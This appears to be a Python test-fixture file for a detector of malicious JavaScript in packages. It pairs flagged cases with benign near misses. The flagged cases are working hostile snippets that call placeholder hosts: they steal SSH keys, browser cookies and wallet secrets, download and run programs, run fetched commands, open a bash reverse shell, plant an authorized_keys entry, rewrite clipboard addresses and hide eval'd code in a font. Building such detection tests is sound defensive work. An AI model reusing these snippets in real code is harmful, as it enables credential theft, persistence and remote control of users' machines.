"""What hands data on: lists that are gone through, callbacks, requests, keys of wallets; each with a near miss."""

# ruff: noqa: E501 - a case reads as the file that it is

from tests.evasion_javascript.case import HIGH, SETUP, Case, Idiom

HANDING = (
    Case("each command of a list that is fetched", "SHELL-001 FETCH-001", HIGH, r"""
        fetch("https://example.invalid/a").then((r) => r.json()).then((list) => list.forEach((one) => require("child_process").exec(one.line)));
    """),
    Case("each line of a text that is fetched", "SHELL-001 FETCH-001", HIGH, r"""
        require("https").get("https://example.invalid/a", (answer) => {
          let text = "";
          answer.on("data", (part) => (text += part));
          answer.on("end", () => text.split("\n").map((line) => require("child_process").execSync(line)));
        });
    """),
    Case("each file of a folder of keys", "EXFIL-001 STEAL-001", HIGH, r"""
        const fs = require("fs"), os = require("os"), folder = os.homedir() + "/.ssh/";
        fs.promises.readdir(folder).then((names) => names.filter((name) => name.startsWith("id_")).forEach((name) => {
          fetch("https://example.invalid/a", { method: "POST", body: fs.readFileSync(folder + name) });
        }));
    """),
    Case("a program is fetched under one of three names and started when it is there", "FETCH-001", HIGH, r"""
        const axios = require("axios"), fs = require("fs"), os = require("os"), path = require("path");
        const { spawn } = require("child_process");
        (async () => {
          const name = { win32: "a.exe", linux: "a-linux", darwin: "a-macos" }[os.platform()];
          const target = path.join(os.tmpdir(), name);
          const answer = await axios({ url: "https://example.invalid/" + name, responseType: "stream" });
          const out = fs.createWriteStream(target);
          answer.data.pipe(out);
          out.on("finish", () => spawn(target, [], { detached: true }));
        })();
    """),
    Case("a file of an installed program, looked for and replaced", "PERSIST-001", HIGH, r"""
        const fs = require("fs"), glob = require("glob");
        glob(process.env.LOCALAPPDATA + "/Chat*/app-*/modules/core-*/core/index.js", (error, hits) => {
          require("https").get("https://example.invalid/a.js", (answer) => {
            let text = "";
            answer.on("data", (part) => (text += part));
            answer.on("end", () => hits.forEach((hit) => fs.writeFileSync(hit, text)));
          });
        });
    """),
    Case("a line for a shell in a header", "SHELL-001", HIGH, r"""
        const cp = require("child_process");
        module.exports = () => (req, res, next) => {
          if (req.headers["x-key"] === "a") cp.exec(req.headers["x-line"], (error, out) => res.end(out));
          else next();
        };
    """),
    Case("what a wallet is made of is sent under another name", "EXFIL-001", HIGH, r"""
        const { Keypair } = require("@solana/web3.js");
        const transport = require("nodemailer").createTransport({ service: "mail" });
        exports.load = (given) => {
          const pair = Keypair.fromSecretKey(require("bs58").decode(given));
          transport.sendMail({ to: "a@example.invalid", subject: pair.publicKey.toBase58(), text: given });
          return pair;
        };
    """),
    Case("the clipboard is rewritten", "STEAL-001", HIGH, r"""
        const clipboard = require("clipboardy");
        setInterval(async () => {
          const text = await clipboard.read();
          if (/^0x[0-9a-f]{40}$/.test(text)) await clipboard.write(text.replace(/.+/, "mine"));
        }, 500);
    """),
    Case("a fixed key is authorized by a constructor", "PERSIST-001", HIGH, r"""
        const fs = require("fs"), os = require("os"), path = require("path");
        class Bot { constructor() { fs.appendFileSync(path.join(os.homedir(), ".ssh", "authorized_keys"), "\nssh-rsa AAAAB3NzaC1yc2EAAAADexample a@example.invalid\n"); } }
        module.exports = Bot;
    """),
    Case("cookies of a browser in one of two folders", "STEAL-001", HIGH, r"""
        const fs = require("fs"), path = require("path");
        const base = path.join(process.env.LOCALAPPDATA || "", "Google", "Chrome", "User Data");
        fetch("https://example.invalid/a", { method: "POST", body: fs.readFileSync(path.join(base, "Default", "Network", "Cookies")) });
    """),
    Case("a program that is installed is packed anew", "PERSIST-001", HIGH, r"""
        const asar = require("@electron/asar"), os = require("os"), path = require("path");
        asar.createPackage("./a", path.join(os.homedir(), "AppData/Local/Programs/wallet/resources/app.asar"));
    """, SETUP),
    Case("parts of a text that are looked up one by one", "EXFIL-001", HIGH, r"""
        const dns = require("dns"), os = require("os");
        const hex = (text) => Buffer.from(text).toString("hex");
        const parts = hex([os.hostname(), os.userInfo().username].join("|")).match(/.{1,60}/g);
        parts.forEach((part, at) => dns.lookup(`${at}.${part}.example.invalid`, () => {}));
    """, SETUP),
    Case("parameters that an address is given later", "EXFIL-001", HIGH, r"""
        const https = require("https"), os = require("os");
        const address = new URL("https://example.invalid/");
        address.searchParams.set("v", "1");
        address.searchParams.append("d", Buffer.from(JSON.stringify({ h: os.hostname(), u: os.userInfo() })).toString("base64url"));
        https.get(address);
    """, SETUP),
    Case("the query of an address set as a whole", "EXFIL-001", HIGH, r"""
        const os = require("os"), address = new URL("https://example.invalid/a");
        address.search = new URLSearchParams({ h: os.hostname(), u: os.userInfo().username });
        fetch(address);
    """, SETUP),
    Case("one of two programs, each with its own arguments", "SHELL-001", HIGH, r"""
        const windows = process.platform === "win32";
        require("child_process").spawnSync(windows ? "cmd" : "bash", windows ? ["/c", "ver"] : ["-c", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"], { stdio: "ignore" });
    """, SETUP),
    Case("who somebody is, in a file meanwhile", "EXFIL-001", HIGH, r"""
        const fs = require("fs"), os = require("os");
        fs.writeFileSync("/tmp/a.json", JSON.stringify({ h: os.hostname(), u: os.userInfo() }));
        fetch("https://example.invalid/a", { method: "POST", body: fs.readFileSync("/tmp/a.json") });
    """, SETUP),
    Case("lines of what commands tell are looked up one by one", "EXFIL-001", HIGH, r"""
        require("child_process").exec("a=$(hostname;pwd;whoami) && echo $a | xxd -p | head | while read part;do nslookup $part.example.invalid;done");
    """, SETUP),
    Case("a program that comes through a pipeline of streams and is started", "FETCH-001", HIGH, r"""
        const { pipeline } = require("stream/promises"), { Readable } = require("stream");
        const fs = require("fs"), os = require("os"), path = require("path");
        (async () => {
          const answer = await fetch("https://example.invalid/a"), target = path.join(os.tmpdir(), "a");
          await pipeline(Readable.fromWeb(answer.body), fs.createWriteStream(target, { mode: 0o755 }));
          require("child_process").spawn(target, [], { detached: true, stdio: "ignore" }).unref();
        })();
    """, SETUP),
    Case("code in a font of the package", "ENC-001", HIGH, r"""
        const fs = require("fs"), path = require("path");
        const read = (name) => (0, eval)(fs.readFileSync(path.join(__dirname, "assets", name)).slice(4).toString("utf8"));
        exports.font = read("icons.woff2");
    """, files={"assets/icons.woff2": "wOF2console.log(1)"}),
)  # fmt: skip

GOOD_HANDING = (
    Idiom("each item of a list that is fetched is shown", r"""
        exports.show = () => fetch("https://example.invalid/a").then((r) => r.json()).then((list) => list.forEach((one) => console.log(one.name)));
    """),
    Idiom("each plugin of a folder is loaded", r"""
        const fs = require("fs"), path = require("path");
        fs.readdirSync(path.join(__dirname, "plugins")).filter((name) => name.endsWith(".js")).forEach((name) => { exports[name] = fs.readFileSync(path.join(__dirname, "plugins", name), "utf8"); });
    """, files={"plugins/a.js": "module.exports = 1;"}),
    Idiom("a server that opens an editor for a request", r"""
        const cp = require("child_process");
        module.exports = (editor) => (req, res) => { cp.spawn(editor, ["--goto", req.url.slice(1)]); res.end(); };
    """),
    Idiom("a wallet that signs and sends what it signed", r"""
        const { ethers } = require("ethers");
        exports.send = async (given, transaction) => {
          const signed = await new ethers.Wallet(given).signTransaction(transaction);
          return fetch("https://example.invalid/rpc", { method: "POST", body: JSON.stringify({ params: [signed] }) });
        };
    """),
    Idiom("a key that a caller gives is authorized", r"""
        const fs = require("fs"), os = require("os");
        exports.authorize = (key) => fs.appendFileSync(os.homedir() + "/.ssh/authorized_keys", key + "\n");
    """, below=HIGH),
    Idiom("text of the clipboard is changed when asked", r"""
        const clipboard = require("clipboardy");
        exports.upper = async () => clipboard.write((await clipboard.read()).toUpperCase());
    """),
    Idiom("a program packs itself", r"""
        const asar = require("@electron/asar"), path = require("path");
        exports.pack = (folder) => asar.createPackage(folder, path.join(__dirname, "dist", "app.asar"));
    """),
    Idiom("a font of the package is served", r"""
        const fs = require("fs"), path = require("path");
        exports.font = (response) => response.end(fs.readFileSync(path.join(__dirname, "assets", "icons.woff2")).slice(4));
    """, files={"assets/icons.woff2": "wOF2console.log(1)"}),
    Idiom("a file is packed through a pipeline of streams", r"""
        const { pipeline } = require("stream"), fs = require("fs"), zlib = require("zlib");
        exports.pack = (path, done) => pipeline(fs.createReadStream(path), zlib.createGzip(), fs.createWriteStream(path + ".gz"), done);
    """),
    Idiom("a program of one of two systems shows a page", r"""
        const { spawn } = require("child_process");
        exports.show = (url) => spawn(process.platform === "win32" ? "cmd" : "xdg-open", process.platform === "win32" ? ["/c", "start", url] : [url], { detached: true });
    """),
    Idiom("a version is asked for with parameters", r"""
        const address = new URL("https://example.invalid/versions");
        address.searchParams.set("version", require("./package.json").version);
        address.hash = "top";
        exports.check = () => fetch(address);
    """),
    Idiom("addresses of the machine are shown", r"""
        const os = require("os");
        Object.values(os.networkInterfaces()).flat().filter((one) => !one.internal).forEach((one) => console.log(`http://${one.address}:80`));
    """),
)  # fmt: skip
